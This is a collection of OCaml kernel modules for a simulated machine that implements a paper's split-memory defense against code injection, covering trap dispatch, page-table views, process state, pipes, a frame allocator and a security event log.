  on_invalid_opcode : ctx -> Proc.t -> eip:int -> opcode:int -> opcode_verdict;
      (** invalid-opcode fault — where split memory detects execution of
          injected code and applies the response mode (Algorithm 3) *)
  on_tlb_fill : ctx -> Proc.t -> Hw.Mmu.fault -> Pte.t -> fill_verdict;
      (** software-managed-TLB machines only (paper §4.7): the OS's
          TLB-miss handler asks the protection how to fill the entry; split
          memory routes fetches to the code copy and data accesses to the
          data copy here, with no single-stepping or walk tricks *)
  ctrl_monitor :
    (ctx ->
    Proc.t ->
    kind:Hw.Cpu.ctrl_kind ->
    site:int ->
    target:int ->
    ret:int ->
    bool)
    option;
      (** control-transfer monitor (a CFI defense, e.g. a shadow stack):
          consulted by the scheduler's step loop on every call / indirect
          call / ret / indirect jump of a protected process, with the
          transfer site, proposed target, and fall-through address. [false]
          denies the transfer — the CPU raises #GP and the kernel kills the
          process. [None] (every non-CFI defense) leaves the step loop
          untouched. *)
}

val none : t
(** The unprotected stock kernel. *)
