type source = Zero | Image_bytes of { base : int; bytes : string }

type region = {
  lo : int;
  mutable hi : int;
  kind : Pte.kind;
  mutable writable : bool;
  mutable execable : bool;
  source : source;
  mutable share : string option;
      (* content digest of the backing segment when this region's read-only
         pages may join the machine-wide shared-frame registry (loader
         COW). Derived perf-only state: not serialized — recomputed from
         the region source by [Machine.rebuild_shares] after a restore. *)
}

type t = {
  page_size : int;
  ptes : (int, Pte.t) Hashtbl.t;
  mutable regions : region list;
  mutable brk : int;
  mutable mmap_cursor : int;
}

let create ~page_size =
  {
    page_size;
    ptes = Hashtbl.create 64;
    regions = [];
    brk = Layout.heap_base;
    mmap_cursor = Layout.mmap_base;
  }

let page_size t = t.page_size
let add_region t r = t.regions <- r :: t.regions
let regions t = t.regions
let find_region t vpn = List.find_opt (fun r -> vpn >= r.lo && vpn < r.hi) t.regions

let pte t vpn = Hashtbl.find_opt t.ptes vpn
let set_pte t (p : Pte.t) = Hashtbl.replace t.ptes p.vpn p
let remove_pte t vpn = Hashtbl.remove t.ptes vpn
let iter_ptes t f = Hashtbl.iter (fun _ p -> f p) t.ptes
let mapped_count t = Hashtbl.length t.ptes

let walk t vpn = Option.map Pte.to_hw (pte t vpn)

(* Hardware-split views (§3.3.1): the code pagetable maps split pages to
   their code copy, the data pagetable to their data copy; everything else
   is shared. Both views are user-accessible — with dedicated hardware
   there is nothing to trap. *)
let walk_code_view t vpn =
  Option.map
    (fun (p : Pte.t) -> { (Pte.to_hw p) with frame = Pte.code_frame p; user = true })
    (pte t vpn)

let walk_data_view t vpn =
  Option.map
    (fun (p : Pte.t) -> { (Pte.to_hw p) with frame = Pte.data_frame p; user = true })
    (pte t vpn)

(* Contents a freshly demand-mapped page should start with: the matching
   slice of the backing image segment (zero-padded), or zeros. The blit
   variant writes into a caller-owned scratch buffer so the demand-paging
   hot path allocates nothing per fault. *)
let blit_page_content t region vpn buf =
  if Bytes.length buf < t.page_size then invalid_arg "Aspace.blit_page_content: buf too small";
  Bytes.fill buf 0 t.page_size '\000';
  match region.source with
  | Zero -> ()
  | Image_bytes { base; bytes } ->
    let page_start = (vpn * t.page_size) - base in
    let src_from = max 0 page_start in
    let dst_from = src_from - page_start in
    let len = min (String.length bytes - src_from) (t.page_size - dst_from) in
    if len > 0 then Bytes.blit_string bytes src_from buf dst_from len

let page_content t region vpn =
  let buf = Bytes.create t.page_size in
  blit_page_content t region vpn buf;
  Bytes.to_string buf

let vpn_of_addr t addr = addr / t.page_size
let page_base t vpn = vpn * t.page_size
