type signal = Sigsegv | Sigill | Sigkill | Sigpipe | Sigbus

let signal_name = function
  | Sigsegv -> "SIGSEGV"
  | Sigill -> "SIGILL"
  | Sigkill -> "SIGKILL"
  | Sigpipe -> "SIGPIPE"
  | Sigbus -> "SIGBUS"

let signal_number = function
  | Sigill -> 4
  | Sigbus -> 7
  | Sigkill -> 9
  | Sigsegv -> 11
  | Sigpipe -> 13

type exit_status = Exited of int | Killed of signal

let status_string = function
  | Exited n -> Fmt.str "exit(%d)" n
  | Killed s -> Fmt.str "killed by %s" (signal_name s)

type wait_cond =
  | Read_fd of int
  | Write_fd of int
  | Child of int
  | Sleep of int  (* absolute wake-up deadline on the cycle counter *)

type state = Runnable | Blocked of wait_cond | Zombie of exit_status

type fd_obj = Read_end of Pipe.t | Write_end of Pipe.t

type t = {
  pid : int;
  name : string;
  aspace : Aspace.t;
  regs : Hw.Cpu.regs;
  fds : (int, fd_obj) Hashtbl.t;
  console_in : Pipe.t;
  console_out : Pipe.t;
  mutable state : state;
  mutable in_runq : bool;
  mutable p_insns : int;
  mutable next_fd : int;
  mutable pending_fault_addr : int option;
  mutable sebek_active : bool;
  mutable parent : int option;
  mutable detections : int;
  mutable recovery_handler : int option;
  trace : int array;
  mutable trace_pos : int;
  mutable protected_ : bool;
  mutable on_retire : int -> unit;
      (* this process's retire hook for the block dispatcher: feeds the
         forensic trace ring. Built once here so arming it each quantum is
         a field write, not a closure allocation. *)
}

let record_trace t eip =
  t.trace.(t.trace_pos) <- eip;
  t.trace_pos <- (t.trace_pos + 1) mod Array.length t.trace

let create ~pid ~name ~aspace =
  let console_in = Pipe.create ~name:(Fmt.str "%s.stdin" name) () in
  let console_out = Pipe.create ~capacity:(1 lsl 20) ~name:(Fmt.str "%s.stdout" name) () in
  let fds = Hashtbl.create 8 in
  Hashtbl.replace fds 0 (Read_end console_in);
  Hashtbl.replace fds 1 (Write_end console_out);
  let t =
    {
      pid;
      name;
      aspace;
      regs = Hw.Cpu.create_regs ();
      fds;
      console_in;
      console_out;
      state = Runnable;
      in_runq = false;
      p_insns = 0;
      next_fd = 3;
      pending_fault_addr = None;
      sebek_active = false;
      parent = None;
      detections = 0;
      recovery_handler = None;
      trace = Array.make 32 (-1);
      trace_pos = 0;
      protected_ = true;
      on_retire = ignore;
    }
  in
  t.on_retire <- (fun eip -> record_trace t eip);
  t

let fd t n = Hashtbl.find_opt t.fds n

let install_fd t obj =
  let n = t.next_fd in
  t.next_fd <- n + 1;
  Hashtbl.replace t.fds n obj;
  n

let replace_fd t n obj = Hashtbl.replace t.fds n obj

let close_fd t n =
  match Hashtbl.find_opt t.fds n with
  | None -> false
  | Some (Read_end p) ->
    Pipe.close_reader p;
    Hashtbl.remove t.fds n;
    true
  | Some (Write_end p) ->
    Pipe.close_writer p;
    Hashtbl.remove t.fds n;
    true

let close_all_fds t =
  let keys = Hashtbl.fold (fun k _ acc -> k :: acc) t.fds [] in
  List.iter (fun k -> ignore (close_fd t k)) keys

let is_runnable t = t.state = Runnable
let is_zombie t = match t.state with Zombie _ -> true | _ -> false

let pp_state ppf = function
  | Runnable -> Fmt.string ppf "runnable"
  | Blocked (Read_fd n) -> Fmt.pf ppf "blocked(read fd %d)" n
  | Blocked (Write_fd n) -> Fmt.pf ppf "blocked(write fd %d)" n
  | Blocked (Child pid) -> Fmt.pf ppf "blocked(wait pid %d)" pid
  | Blocked (Sleep until_) -> Fmt.pf ppf "blocked(sleep until %d)" until_
  | Zombie s -> Fmt.pf ppf "zombie(%s)" (status_string s)

(* Oldest-first list of the last executed instruction addresses. *)
let trace_trail t =
  let n = Array.length t.trace in
  let rec collect i acc =
    if i = 0 then acc
    else
      let idx = (t.trace_pos - i + (2 * n)) mod n in
      let v = t.trace.(idx) in
      collect (i - 1) (if v >= 0 then v :: acc else acc)
  in
  List.rev (collect n [])
