(** Guest processes: registers, address space, file descriptors, scheduler
    state, and the per-process bookkeeping the split-memory patch keeps in
    the OS process table (the pending faulting address passed from the
    page-fault handler to the debug-interrupt handler, §5.2). *)

type signal = Sigsegv | Sigill | Sigkill | Sigpipe | Sigbus

val signal_name : signal -> string
val signal_number : signal -> int

type exit_status = Exited of int | Killed of signal

val status_string : exit_status -> string

type wait_cond =
  | Read_fd of int
  | Write_fd of int
  | Child of int
  | Sleep of int
      (** absolute wake-up deadline on the machine's cycle counter *)
type state = Runnable | Blocked of wait_cond | Zombie of exit_status
type fd_obj = Read_end of Pipe.t | Write_end of Pipe.t

type t = {
  pid : int;
  name : string;
  aspace : Aspace.t;
  regs : Hw.Cpu.regs;
  fds : (int, fd_obj) Hashtbl.t;
  console_in : Pipe.t;  (** initially fd 0 — where exploit drivers inject *)
  console_out : Pipe.t;  (** initially fd 1 *)
  mutable state : state;
  mutable in_runq : bool;
      (** queued in the machine's run queue — lets [enqueue] never
          double-queue and [dequeue_runnable] skip stale-pid churn *)
  mutable p_insns : int;
      (** instructions retired by this process (maintained by the
          scheduler; not serialized — resets to 0 on snapshot restore) *)
  mutable next_fd : int;
  mutable pending_fault_addr : int option;
      (** set by Algorithm 1's code branch; consumed by Algorithm 2 *)
  mutable sebek_active : bool;  (** post-detection syscall tracing enabled *)
  mutable parent : int option;
  mutable detections : int;  (** injection detections against this process *)
  mutable recovery_handler : int option;
      (** attack-recovery callback registered via the sigrecover syscall
          (the paper's proposed recovery response mode, §4.5) *)
  trace : int array;  (** ring buffer of recently executed EIPs *)
  mutable trace_pos : int;
  mutable protected_ : bool;
      (** per-process opt-out (paper §3.3.1: a process that needs a plain
          von Neumann view — e.g. self-modifying code — simply gets one
          pagetable view and no splitting) *)
  mutable on_retire : int -> unit;
      (** this process's retire hook for the block dispatcher — feeds
          {!record_trace}. Built once at creation so the scheduler can arm
          it each quantum with a field write, not a closure allocation. *)
}

val create : pid:int -> name:string -> aspace:Aspace.t -> t
val fd : t -> int -> fd_obj option
val install_fd : t -> fd_obj -> int
val replace_fd : t -> int -> fd_obj -> unit
val close_fd : t -> int -> bool
val close_all_fds : t -> unit
val is_runnable : t -> bool
val is_zombie : t -> bool
val pp_state : Format.formatter -> state -> unit

val record_trace : t -> int -> unit
(** Record one executed instruction address (called by the scheduler). *)

val trace_trail : t -> int list
(** The last executed instruction addresses, oldest first — forensics mode
    dumps this as the control-flow trail into the attack. *)
