(* The kernel facade. The monolith this module used to be is now four
   explicit layers —

     Machine   state + memory/process services (demand paging, COW, fork,
               loader, consoles, teardown)
     Syscalls  declarative syscall table: number -> {name; handler}
     Trap      first-class trap type + dispatch through Protection hooks
               (Algorithms 1-3 live behind this boundary)
     Sched     round-robin run loop, quantum/fuel/tick accounting

   — and this file only re-exports them behind the historical stable API.
   [t] {e is} the machine; use {!machine} to hand it to a layer directly. *)

exception Rejected_image = Machine.Rejected_image
exception Efault = Machine.Efault

type library = Machine.library = { lib_base : int; code : string; lib_signature : int }

type stop_reason = Sched.stop_reason = All_exited | All_blocked | Fuel_exhausted

type t = Machine.t

let create = Machine.create
let machine t = t
let ctx = Machine.ctx
let log (t : t) = t.Machine.log
let obs (t : t) = t.Machine.obs
let syscall_name n = Syscalls.name (Syscalls.default ()) n
let cost (t : t) = t.Machine.cost
let mmu (t : t) = t.Machine.mmu
let env (t : t) = t.Machine.env
let bbcache (t : t) = t.Machine.bbcache
let phys (t : t) = t.Machine.phys
let alloc (t : t) = t.Machine.alloc
let page_size (t : t) = t.Machine.page_size
let proc = Machine.proc
let procs = Machine.procs
let protection (t : t) = t.Machine.protection
let children_of = Machine.children_of

let register_library = Machine.register_library
let tamper_library = Machine.tamper_library
let spawn = Machine.spawn

let feed_stdin = Machine.feed_stdin
let close_stdin = Machine.close_stdin
let read_stdout = Machine.read_stdout
let connect = Machine.connect

let run ?fuel t = Sched.run ?fuel t

let kill = Machine.kill
let terminate = Machine.terminate

let copy_from_user = Machine.copy_from_user
let copy_to_user = Machine.copy_to_user
let read_cstring = Machine.read_cstring
let load_pagetables = Machine.load_pagetables
let map_demand_page = Machine.map_demand_page
let cow_service = Machine.cow_service

(* ------------------------------------------------------------------ *)
(* Snapshot support                                                    *)
(* ------------------------------------------------------------------ *)

let quantum (t : t) = t.Machine.quantum
let set_sched_hook (t : t) hook = t.Machine.sched_hook <- hook

type sched_state = Sched.state = {
  s_runq : int list;
  s_rng : Random.State.t;
  s_last_running : int option;
  s_next_pid : int;
  s_next_tick : int;
  s_ticks : int;
  s_lib_cursor : int;
}

let sched_state = Sched.state
let restore_sched_state = Sched.restore

let libraries = Machine.libraries
let restore_libraries = Machine.restore_libraries
let replace_procs = Machine.replace_procs

(* ------------------------------------------------------------------ *)
(* Tracing                                                             *)
(* ------------------------------------------------------------------ *)

let set_syscall_tracer (t : t) tracer = t.Machine.syscall_tracer <- tracer

(* ------------------------------------------------------------------ *)
(* Fault injection                                                     *)
(* ------------------------------------------------------------------ *)

let set_inject_hook (t : t) hook = t.Machine.inject_hook <- hook
let set_syscall_squeeze (t : t) squeeze = t.Machine.syscall_squeeze <- squeeze

(* ------------------------------------------------------------------ *)
(* Profiling (lib/prof)                                                *)
(* ------------------------------------------------------------------ *)

let set_switch_hook (t : t) hook = t.Machine.switch_hook <- hook
let last_running (t : t) = t.Machine.last_running
