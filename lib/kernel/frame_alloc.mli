(** Reference-counted physical frame allocator.

    Reference counting supports copy-on-write sharing after [fork] and the
    shared code copies of split pages. Frame 0 is reserved and never handed
    out, so 0 can serve as a null frame value. *)

exception Out_of_frames

type t

val create : Hw.Phys.t -> t
val alloc : t -> int
(** Allocate a zeroed frame with refcount 1. @raise Out_of_frames. *)

val incref : t -> int -> unit
val decref : t -> int -> unit
(** Drop a reference; the frame returns to the free list at zero. *)

val refcount : t -> int -> int
val in_use : t -> int
(** Number of frames currently allocated (for the memory-overhead study). *)

val peak_in_use : t -> int
val free_frames : t -> int

val set_deny_next : t -> int -> unit
(** Fault injection: make the next [n] calls to {!alloc}/{!alloc_pair}
    raise {!Out_of_frames} regardless of actual free frames (transient
    allocator exhaustion). Not part of {!state} — this is injector state
    and is persisted in snapshot metadata by [lib/inject]. *)

val deny_next : t -> int
(** Remaining injected denials. *)

type state = {
  s_free : int list;  (** free stack, top first — preserves allocation order *)
  s_refcount : int array;
  s_in_use : int;
  s_peak_in_use : int;
}
(** Serializable allocator state. The free list is kept in stack order so a
    restored machine hands out the same frame numbers as the original. *)

val export : t -> state
(** Deep copy — later allocator activity does not mutate the export. *)

val import : t -> state -> unit
(** Replace the allocator's state in place (same physical memory). *)

val alloc_pair : t -> int * int
(** Allocate two side-by-side frames [(even, even+1)] — how the paper's
    prototype lays out a split page's code and data copies so the partner
    frame is found by arithmetic rather than stored. @raise Out_of_frames. *)
