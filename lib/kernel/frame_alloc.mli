(** Reference-counted physical frame allocator.

    Reference counting supports copy-on-write sharing after [fork] and the
    shared code copies of split pages. Frame 0 is reserved and never handed
    out, so 0 can serve as a null frame value. *)

exception Out_of_frames

type t

val create : Hw.Phys.t -> t
val alloc : t -> int
(** Allocate a zeroed frame with refcount 1. @raise Out_of_frames. *)

val incref : t -> int -> unit
val decref : t -> int -> unit
(** Drop a reference; the frame returns to the free list at zero. *)

val refcount : t -> int -> int
val in_use : t -> int
(** Number of frames currently allocated (for the memory-overhead study). *)

val peak_in_use : t -> int
val free_frames : t -> int

val set_deny_next : t -> int -> unit
(** Fault injection: make the next [n] calls to {!alloc}/{!alloc_pair}
    raise {!Out_of_frames} regardless of actual free frames (transient
    allocator exhaustion). Not part of {!state} — this is injector state
    and is persisted in snapshot metadata by [lib/inject]. *)

val deny_next : t -> int
(** Remaining injected denials. *)

val register_share : t -> key:string -> frame:int -> unit
(** Publish an allocated frame in the shared-image registry under a
    content key (["digest/vpn"]). Later loads of the same key find it via
    {!find_share} and join with {!incref} instead of allocating a private
    copy. The entry drops automatically when the frame's refcount reaches
    zero. Registry state is derived and perf-only: it is not serialized
    and {!import} clears it. *)

val find_share : t -> string -> int option
(** The registered frame for a content key, if still allocated. *)

val is_shared : t -> int -> bool
(** Whether the frame is currently published in the registry. *)

val unshare : t -> int -> int
(** Privatize ahead of a store: for a registered frame with other
    references, allocate-and-copy a private frame (returned; the caller
    repoints its PTE and drops nothing — the copy starts at refcount 1 and
    the original loses one reference). For a sole-owner registered frame,
    just unregister and return it. Unregistered frames — including all
    fork-COW sharing — are returned untouched. @raise Out_of_frames. *)

type state = {
  s_free : int list;  (** free frames, ascending *)
  s_refcount : int array;
  s_in_use : int;
  s_peak_in_use : int;
}
(** Serializable allocator state. Selection is deterministic lowest-
    address-first, so the free {e set} alone (any order accepted on
    import) makes a restored machine hand out the same frame numbers as
    the original. *)

val export : t -> state
(** Deep copy — later allocator activity does not mutate the export. *)

val import : t -> state -> unit
(** Replace the allocator's state in place (same physical memory). *)

val alloc_pair : t -> int * int
(** Allocate two side-by-side frames [(even, even+1)] — how the paper's
    prototype lays out a split page's code and data copies so the partner
    frame is found by arithmetic rather than stored. @raise Out_of_frames. *)
