type ctx = {
  phys : Hw.Phys.t;
  alloc : Frame_alloc.t;
  mmu : Hw.Mmu.t;
  cost : Hw.Cost.t;
  log : Event_log.t;
  obs : Obs.t;
}

type fault_result = Handled | Not_ours

type opcode_verdict =
  | Benign
  | Resume
  | Kill_process of string

type fill_verdict =
  | Default_fill
  | Fill of Hw.Tlb.entry
  | Deny_fill

type t = {
  name : string;
  nx_hardware : bool;
  dual_pagetables : bool;
  on_page_mapped : ctx -> Proc.t -> Aspace.region -> Pte.t -> unit;
  on_protection_fault : ctx -> Proc.t -> Hw.Mmu.fault -> fault_result;
  on_debug_trap : ctx -> Proc.t -> bool;
  on_invalid_opcode : ctx -> Proc.t -> eip:int -> opcode:int -> opcode_verdict;
  on_tlb_fill : ctx -> Proc.t -> Hw.Mmu.fault -> Pte.t -> fill_verdict;
  ctrl_monitor :
    (ctx ->
    Proc.t ->
    kind:Hw.Cpu.ctrl_kind ->
    site:int ->
    target:int ->
    ret:int ->
    bool)
    option;
}

let none =
  {
    name = "unprotected";
    nx_hardware = false;
    dual_pagetables = false;
    on_page_mapped = (fun _ _ _ _ -> ());
    on_protection_fault = (fun _ _ _ -> Not_ours);
    on_debug_trap = (fun _ _ -> false);
    on_invalid_opcode = (fun _ _ ~eip:_ ~opcode:_ -> Benign);
    on_tlb_fill = (fun _ _ _ _ -> Default_fill);
    ctrl_monitor = None;
  }
