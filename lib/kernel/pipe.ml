type t = {
  name : string;
  capacity : int;
  buf : Buffer.t;
  mutable read_pos : int;
  mutable readers : int;
  mutable writers : int;
  mutable bytes_written : int;
  (* Wait queues: pids blocked on this pipe, registered by the scheduler
     layer. A state change that could unblock a side reports each waiting
     pid through [wakeup] (attached by the owning machine) and clears that
     side's list — the scheduler re-registers anyone still blocked after
     rechecking the full wake condition, so a spurious notification is
     harmless. Not serialized: lib/snap restore re-derives pending wakeups
     from blocked-process state. *)
  mutable read_waiters : int list;
  mutable write_waiters : int list;
  mutable wakeup : int -> unit;
}

let create ?(capacity = 65536) ~name () =
  {
    name;
    capacity;
    buf = Buffer.create 256;
    read_pos = 0;
    readers = 1;
    writers = 1;
    bytes_written = 0;
    read_waiters = [];
    write_waiters = [];
    wakeup = ignore;
  }

let name t = t.name
let level t = Buffer.length t.buf - t.read_pos
let is_empty t = level t = 0
let space t = t.capacity - level t
let has_writers t = t.writers > 0
let has_readers t = t.readers > 0
let bytes_written t = t.bytes_written

let set_wakeup t f = t.wakeup <- f

let add_read_waiter t pid =
  if not (List.mem pid t.read_waiters) then t.read_waiters <- pid :: t.read_waiters

let add_write_waiter t pid =
  if not (List.mem pid t.write_waiters) then t.write_waiters <- pid :: t.write_waiters

let notify_readers t =
  match t.read_waiters with
  | [] -> ()
  | ws ->
    t.read_waiters <- [];
    List.iter t.wakeup ws

let notify_writers t =
  match t.write_waiters with
  | [] -> ()
  | ws ->
    t.write_waiters <- [];
    List.iter t.wakeup ws

let add_reader t = t.readers <- t.readers + 1
let add_writer t = t.writers <- t.writers + 1

let close_reader t =
  t.readers <- max 0 (t.readers - 1);
  (* last reader gone -> writers see EPIPE; readers re-check EOF too *)
  if t.readers = 0 then notify_writers t

let close_writer t =
  t.writers <- max 0 (t.writers - 1);
  (* last writer gone -> blocked readers see EOF *)
  if t.writers = 0 then notify_readers t

(* Compact the internal buffer once the consumed prefix dominates, so a
   long-lived pipe doesn't grow without bound. *)
let compact t =
  if t.read_pos > 4096 && t.read_pos * 2 > Buffer.length t.buf then begin
    let rest = Buffer.sub t.buf t.read_pos (level t) in
    Buffer.clear t.buf;
    Buffer.add_string t.buf rest;
    t.read_pos <- 0
  end

let write t s =
  let n = min (String.length s) (space t) in
  Buffer.add_substring t.buf s 0 n;
  t.bytes_written <- t.bytes_written + n;
  if n > 0 then notify_readers t;
  n

let read t ~max =
  let n = min max (level t) in
  let s = Buffer.sub t.buf t.read_pos n in
  t.read_pos <- t.read_pos + n;
  compact t;
  if n > 0 then notify_writers t;
  s

let drain t = read t ~max:(level t)

type state = {
  s_name : string;
  s_capacity : int;
  s_pending : string;  (* buffered-but-unread bytes *)
  s_readers : int;
  s_writers : int;
  s_bytes_written : int;
}

let export t =
  {
    s_name = t.name;
    s_capacity = t.capacity;
    s_pending = Buffer.sub t.buf t.read_pos (level t);
    s_readers = t.readers;
    s_writers = t.writers;
    s_bytes_written = t.bytes_written;
  }

let import (s : state) =
  let t = create ~capacity:s.s_capacity ~name:s.s_name () in
  Buffer.add_string t.buf s.s_pending;
  t.readers <- s.s_readers;
  t.writers <- s.s_writers;
  t.bytes_written <- s.s_bytes_written;
  t
