(** Kernel event log: security-relevant events (detections, shell spawns,
    Sebek-style traces) that attack runners and tests assert against. *)

type event =
  | Exec_shell of { pid : int; path : string }
      (** the guest reached [execve] — the marker for attack success *)
  | Injection_detected of { pid : int; eip : int; mode : string }
  | Shellcode_dump of { pid : int; eip : int; bytes : string }
  | Forensic_injected of { pid : int; new_eip : int }
  | Recovery_invoked of { pid : int; handler : int; faulting_eip : int }
      (** the application's registered recovery callback took over *)
  | Execution_trail of { pid : int; eips : int list }
      (** recent control flow, oldest first (forensics) *)
  | Signal_delivered of { pid : int; signal : string }
  | Syscall_traced of { pid : int; name : string; info : string }
  | Process_exited of { pid : int; status : string }
  | Library_rejected of { name : string }
  | Fault_detected of { pid : int; kind : string; action : string }
      (** graceful degradation fired on an injected hardware/kernel fault:
          [kind] names the detector ("tlb-desync", "ecc", "oom"), [action]
          what the kernel did about it ("resync", "corrected", "kill") *)
  | Note of string

val pp_event : Format.formatter -> event -> unit

val tag : event -> string
(** Short machine-readable name of the variant ("exec_shell", ...). *)

type t

val create : unit -> t

val attach_obs : t -> Obs.t -> unit
(** Mirror every logged event into the trace stream (category ["log"])
    when the sink is enabled. The in-memory list and {!pp} output are
    unchanged. *)

val subscribe : t -> (event -> unit) -> unit
(** Register a callback invoked synchronously on every {!add}, after the
    event is appended. Lets external machinery (e.g. forensic snapshotting)
    react at the exact detection instant without the kernel depending on it.
    Subscribers run in registration order and are never removed. *)

val add : t -> event -> unit
val note : t -> ('a, Format.formatter, unit, unit) format4 -> 'a

val set_events : t -> event list -> unit
(** Replace the whole log, oldest first (snapshot restore). Subscribers and
    the obs sink are untouched. *)

val to_list : t -> event list
(** Oldest first. *)

val count : t -> (event -> bool) -> int
val find_first : t -> (event -> bool) -> event option
val shell_spawned : t -> bool

val detections : t -> (int * int * string) list
(** [(pid, eip, mode)] for every injection detection, oldest first. *)

val pp : Format.formatter -> t -> unit
