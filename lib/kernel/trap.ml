(* The trap layer: a first-class trap type unifying every [Hw.Cpu.step]
   outcome, and the dispatch pipeline that routes each class to its
   handler — the paper's architecture in miniature, since the whole
   defense lives in trap handlers: Algorithm 1 in the page-fault handler
   ([Protection.on_protection_fault]/[on_page_mapped]), Algorithm 2 in the
   debug-interrupt handler ([on_debug_trap]), Algorithm 3 in the
   invalid-opcode handler ([on_invalid_opcode]).

   Cost-charging discipline (must stay bit-identical across refactors):
   - retired instruction        -> charge_insn
   - syscall                    -> charge_insn + charge_syscall
   - page fault                 -> charge_trap, EXCEPT software TLB-miss
     traps, whose cost is charged by the fill / full service itself
   - #UD, #GP                   -> charge_trap
   - #DB (trap flag, runnable)  -> charge_trap *)

module M = Machine

type t =
  | Page_fault of Hw.Mmu.fault
  | Syscall of int  (* EAX at [int 0x80] *)
  | Invalid_opcode of { eip : int; opcode : int }
  | General_protection of string
  | Debug_trap

let class_name = function
  | Page_fault _ -> "page_fault"
  | Syscall _ -> "syscall"
  | Invalid_opcode _ -> "invalid_opcode"
  | General_protection _ -> "general_protection"
  | Debug_trap -> "debug_trap"

(* One formatter for every trap class; the page-fault arm is the canonical
   [Hw.Mmu.pp_fault], shared with [Hw.Cpu.pp_fault]. *)
let pp ppf = function
  | Page_fault f -> Hw.Mmu.pp_fault ppf f
  | Syscall n -> Fmt.pf ppf "syscall eax=%d" n
  | Invalid_opcode { eip; opcode } -> Fmt.pf ppf "#UD eip=0x%08x opcode=0x%02x" eip opcode
  | General_protection s -> Fmt.pf ppf "#GP %s" s
  | Debug_trap -> Fmt.string ppf "#DB"

(* The primary trap of a step outcome; [None] for a plainly retired
   instruction. A #DB rides on the [debug_trap] bit of the step and is
   delivered separately, after the primary outcome (see [deliver]). *)
let of_outcome : (Hw.Cpu.event, Hw.Cpu.fault) result -> t option = function
  | Ok Hw.Cpu.Retired -> None
  | Ok (Hw.Cpu.Syscall n) -> Some (Syscall n)
  | Error (Hw.Cpu.Page f) -> Some (Page_fault f)
  | Error (Hw.Cpu.Invalid_opcode { eip; opcode }) -> Some (Invalid_opcode { eip; opcode })
  | Error (Hw.Cpu.General_protection s) -> Some (General_protection s)

(* ------------------------------------------------------------------ *)
(* Page-fault service                                                  *)
(* ------------------------------------------------------------------ *)

(* Software-managed-TLB miss service (SPARC-style, paper §4.7): permission
   checks and COW happen here, then the protection chooses the frame to
   load (split routing) or the kernel fills straight from the PTE. *)
let handle_tlb_miss (m : M.t) (p : Proc.t) (f : Hw.Mmu.fault) (pte : Pte.t) =
  if f.access = Hw.Mmu.Write && pte.cow && pte.orig_writable then begin
    (* COW is a full kernel page-fault service even on soft-TLB machines *)
    Hw.Cost.charge_trap m.cost;
    M.cow_service m pte
  end
  else if
    (f.from_user && (not pte.user) && not (Pte.is_split pte))
    || (f.access = Hw.Mmu.Write && not pte.writable)
  then M.kill m p Proc.Sigsegv
  else
    match m.protection.on_tlb_fill (M.ctx m) p f pte with
    | Protection.Fill entry -> Hw.Mmu.load_tlb m.mmu f.access entry
    | Protection.Default_fill ->
      Hw.Mmu.load_tlb m.mmu f.access
        { vpn = pte.vpn; frame = pte.frame; user = pte.user; writable = pte.writable;
          nx = pte.nx }
    | Protection.Deny_fill -> M.kill m p Proc.Sigsegv

let handle_page_fault (m : M.t) (p : Proc.t) (f : Hw.Mmu.fault) =
  let vpn = f.addr / m.page_size in
  match Aspace.pte p.aspace vpn with
  | None ->
    (* demand paging is a full kernel fault even when the hardware
       delivered it as a lightweight TLB-miss trap *)
    if f.kind = Hw.Mmu.Tlb_miss then Hw.Cost.charge_trap m.cost;
    (match Aspace.find_region p.aspace vpn with
    | Some region -> ignore (M.map_demand_page m p region vpn)
    | None -> M.kill m p Proc.Sigsegv)
  | Some pte -> (
    match f.kind with
    | Hw.Mmu.Not_present -> M.kill m p Proc.Sigsegv
    | Hw.Mmu.Tlb_miss -> handle_tlb_miss m p f pte
    | Hw.Mmu.Protection ->
      if f.access = Hw.Mmu.Write && pte.cow && pte.orig_writable then M.cow_service m pte
      else (
        match m.protection.on_protection_fault (M.ctx m) p f with
        | Protection.Handled -> ()
        | Protection.Not_ours -> M.kill m p Proc.Sigsegv))

(* ------------------------------------------------------------------ *)
(* Dispatch                                                            *)
(* ------------------------------------------------------------------ *)

(* Serve one trap: charge its cost, route it to its handler (through the
   [Protection.t] hooks where the class has one), and feed the per-class
   observability instruments. *)
let serve ?table (m : M.t) (p : Proc.t) trap =
  (match m.hot with
  | None -> ()
  | Some h -> Obs.Metrics.incr_label h.h_traps_by_class (class_name trap));
  match trap with
  | Syscall n ->
    let table = match table with Some t -> t | None -> Syscalls.default () in
    let since = m.cost.cycles in
    Hw.Cost.charge_insn m.cost;
    Hw.Cost.charge_syscall m.cost;
    (match m.syscall_squeeze with
    | Some squeeze when squeeze p n ->
      (* injected transient kernel failure: restart the syscall
         transparently (the ERESTARTNOINTR discipline) by rewinding the
         guest over its [int 0x80] — the retry re-dispatches *)
      p.regs.eip <- Isa.Encode.mask32 (p.regs.eip - 2)
    | _ -> Syscalls.dispatch table m p n);
    (match m.hot with
    | None -> ()
    | Some h ->
      Obs.Metrics.incr h.h_retired;
      Obs.Metrics.incr h.h_syscalls;
      Obs.Metrics.observe h.h_syscall_cycles (m.cost.cycles - since);
      Obs.Metrics.incr_label h.h_sys_by_name (Syscalls.name table n);
      Obs.Metrics.incr_label h.h_sys_by_pid (string_of_int p.pid))
  | Page_fault f ->
    let since = m.cost.cycles in
    (* software TLB-miss traps are lightweight (their cost is charged by
       the fill itself); everything else is a full kernel trap *)
    if f.kind <> Hw.Mmu.Tlb_miss then Hw.Cost.charge_trap m.cost;
    (* allocator exhaustion (real or injected) during fault service is
       contained by OOM-killing the faulting process *)
    (try handle_page_fault m p f with Frame_alloc.Out_of_frames -> M.oom_kill m p);
    (match m.hot with
    | None -> ()
    | Some h ->
      Obs.Metrics.incr h.h_faults;
      Obs.Metrics.observe h.h_fault_cycles (m.cost.cycles - since);
      Obs.Metrics.incr_label h.h_faults_by_page (Fmt.str "0x%05x" (f.addr / m.page_size));
      Obs.Metrics.incr_label h.h_faults_by_pid (string_of_int p.pid);
      Obs.complete m.obs ~cat:"os" ~since "os.fault_service"
        ~args:
          [ ("pid", Obs.Json.Int p.pid); ("addr", Obs.Json.Str (Fmt.str "0x%08x" f.addr)) ])
  | Invalid_opcode { eip; opcode } -> (
    Hw.Cost.charge_trap m.cost;
    match m.protection.on_invalid_opcode (M.ctx m) p ~eip ~opcode with
    | Protection.Benign -> M.kill m p Proc.Sigill
    | Protection.Resume -> ()
    | Protection.Kill_process _reason -> M.kill m p Proc.Sigill)
  | General_protection _ ->
    Hw.Cost.charge_trap m.cost;
    M.kill m p Proc.Sigsegv
